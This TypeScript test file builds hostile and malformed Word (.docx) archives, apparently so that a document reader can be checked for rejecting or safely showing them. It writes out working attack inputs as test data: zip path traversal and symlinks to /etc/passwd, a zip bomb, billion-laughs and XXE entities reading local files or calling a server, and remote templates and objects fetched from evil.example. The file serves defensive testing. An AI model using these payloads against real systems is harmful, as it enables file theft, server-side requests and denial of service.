import { deflateRawSync } from "node:zlib";
import { archive, type Made } from "../../../documents/test/hostile-zip.ts";

const text = (value: string): Uint8Array => new Uint8Array(Buffer.from(value));
const types = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Default Extension="bin" ContentType="application/octet-stream"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>`;
const word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const packageRels = "http://schemas.openxmlformats.org/package/2006/relationships";

/** A text document whose main part is this XML. */
function docx(main: string, others: readonly Made[] = [], relationships = ""): Uint8Array {
  const root = `<?xml version="1.0"?><Relationships xmlns="${packageRels}"><Relationship Id="r1" Type="${office}/officeDocument" Target="word/document.xml"/></Relationships>`;
  const own = `<?xml version="1.0"?><Relationships xmlns="${packageRels}">${relationships}</Relationships>`;
  return archive([
    { name: "[Content_Types].xml", content: text(types) },
    { name: "_rels/.rels", content: text(root) },
    { name: "word/document.xml", content: text(main) },
    { name: "word/_rels/document.xml.rels", content: text(own) },
    ...others,
  ]);
}
const body = (inner: string): string =>
  `<?xml version="1.0"?><w:document xmlns:w="${word}" xmlns:r="${office}"><w:body>${inner}</w:body></w:document>`;
const paragraph = (inner: string): string => `<w:p><w:r><w:t>${inner}</w:t></w:r></w:p>`;

const laughs = Array.from({ length: 12 }, (_, i) =>
  i === 0 ? `<!ENTITY l0 "lol">` : `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`,
).join("");
const dtd = (inner: string, entity: string): string =>
  `<?xml version="1.0"?><!DOCTYPE d [${inner}]><w:document xmlns:w="${word}"><w:body>${paragraph(entity)}</w:body></w:document>`;

/** As harmless as they come: what is refused below is refused for what is wrong with it. */
export const harmless = (): Uint8Array => docx(body(paragraph("Dear all")));

function bomb(megabytes: number): Made {
  const content = new Uint8Array(megabytes * 1_048_576);
  return { name: "word/media/bomb.bin", data: new Uint8Array(deflateRawSync(content)), content, method: 8 };
}

/** Built to harm whoever opens them. Each must be an error or be shown as bytes, at once, and harm nothing. */
export const hostileDocuments: Readonly<Record<string, () => Uint8Array>> = {
  "leads out by a name": () => docx(body(""), [{ name: "../../evil.xml", content: text("x") }]),
  "has an absolute name": () => docx(body(""), [{ name: "/etc/cron.d/evil", content: text("x") }]),
  "has backslashes in a name": () => docx(body(""), [{ name: "..\\evil.xml", content: text("x") }]),
  "has a drive in a name": () => docx(body(""), [{ name: "C:/evil.xml", content: text("x") }]),
  "has its main part twice": () => docx(body(""), [{ name: "word/document.xml", content: text(body("")) }]),
  "has its main part twice, once in capitals": () =>
    docx(body(""), [{ name: "WORD/DOCUMENT.XML", content: text(body("")) }]),
  "holds a symbolic link": () =>
    docx(body(""), [
      { name: "word/link", content: text("/etc/passwd"), madeBy: (3 << 8) | 20, external: 0xa1ff * 0x10000 },
    ]),
  "is encrypted": () => docx(body(""), [{ name: "word/x.xml", content: text("x"), flags: 1 }]),
  "is compressed in an unknown way": () => docx(body(""), [{ name: "word/x.xml", content: text("x"), method: 99 }]),
  "inflates a thousandfold": () => docx(body(""), [bomb(200)]),
  "says that its main part is small": () => {
    const content = new Uint8Array(64 * 1_048_576).fill(0x20);
    const data = new Uint8Array(deflateRawSync(content));
    return archive([
      { name: "[Content_Types].xml", content: text(types) },
      { name: "word/document.xml", content, data, method: 8, size: 10, local: { size: 10 } },
    ]);
  },
  "has ten thousand entries and one": () =>
    archive(Array.from({ length: 10_001 }, (_, i) => ({ name: `e${i}.xml`, content: text("") }))),
  "says that it has a million entries": () => archive([{ name: "a", content: text("x") }], { entries: 65_535 }),
  "lies about its directory": () => archive([{ name: "a", content: text("x") }], { offset: 0xfffffff0 }),
  "is cut off": () => docx(body("")).subarray(0, 300),
  "is empty": () => new Uint8Array(),
  "is no archive": () => text("This is not a document."),
  "is nothing but zeros": () => new Uint8Array(10_000),
  "has no main part": () => archive([{ name: "[Content_Types].xml", content: text(types) }]),
  "laughs a billion times": () => docx(dtd(laughs, "&l11;")),
  "reads a file of the machine": () => docx(dtd(`<!ENTITY x SYSTEM "file:///etc/passwd">`, "&x;")),
  "asks a server": () => docx(dtd(`<!ENTITY x SYSTEM "http://127.0.0.1:9/steal">`, "&x;")),
  "asks by a parameter entity": () => docx(dtd(`<!ENTITY % x SYSTEM "http://127.0.0.1:9/x.dtd"> %x;`, "")),
  "names a public entity": () => docx(dtd(`<!ENTITY x PUBLIC "-//x" "file:///etc/hostname">`, "&x;")),
  "names itself in an entity": () => docx(dtd(`<!ENTITY a "&b;"><!ENTITY b "&a;">`, "&a;")),
  "has a document type alone": () => docx(dtd("", "x")),
  "is not closed": () => docx(`<w:document xmlns:w="${word}"><w:body><w:p>`),
  "closes another element": () => docx(`<w:document xmlns:w="${word}"><w:body></w:p></w:document>`),
  "is nested a hundred thousand deep": () => docx(body("<w:sdt>".repeat(100_000) + "</w:sdt>".repeat(100_000))),
  "uses a prefix of nobody": () => docx(`<evil:document><evil:body/></evil:document>`),
  "is not UTF-8": () =>
    archive([
      { name: "[Content_Types].xml", content: text(types) },
      { name: "word/document.xml", content: new Uint8Array([0x3c, 0x77, 0xff, 0xfe, 0xc3, 0x28]) },
    ]),
  "says that it is UTF-7": () => docx(`<?xml version="1.0" encoding="UTF-7"?>+ADw-w:document/+AD4-`),
  "has control characters": () => docx(body(paragraph("a\u0001b\u0000c"))),
  "points its main part out": () =>
    archive([
      { name: "[Content_Types].xml", content: text(types) },
      {
        name: "_rels/.rels",
        content: text(
          `<Relationships xmlns="${packageRels}"><Relationship Id="r1" Type="${office}/officeDocument" Target="../../../etc/passwd"/></Relationships>`,
        ),
      },
    ]),
  "points its main part at a server": () =>
    archive([
      { name: "[Content_Types].xml", content: text(types) },
      {
        name: "_rels/.rels",
        content: text(
          `<Relationships xmlns="${packageRels}"><Relationship Id="r1" Type="${office}/officeDocument" TargetMode="External" Target="http://127.0.0.1:9/x"/></Relationships>`,
        ),
      },
    ]),
};

/** Whole documents that carry something: shown, with a warning. */
export const suspiciousDocuments: Readonly<Record<string, () => Uint8Array>> = {
  "takes its template from a server": () =>
    docx(
      body(paragraph("Dear all")),
      [{ name: "word/settings.xml", content: text(`<w:settings xmlns:w="${word}"/>`) }],
      `<Relationship Id="r9" Type="${office}/attachedTemplate" TargetMode="External" Target="http://evil.example/t.dotm"/>`,
    ),
  "takes an image from a server": () =>
    docx(
      body(paragraph("Dear all")),
      [],
      `<Relationship Id="r9" Type="${office}/image" TargetMode="External" Target="http://evil.example/pixel.png"/>`,
    ),
  "takes an object from a share": () =>
    docx(
      body(paragraph("Dear all")),
      [],
      `<Relationship Id="r9" Type="${office}/oleObject" TargetMode="External" Target="file://server/share/x"/>`,
    ),
  "holds a program": () => docx(body(paragraph("Dear all")), [{ name: "word/vbaProject.bin", content: text("VBA") }]),
};
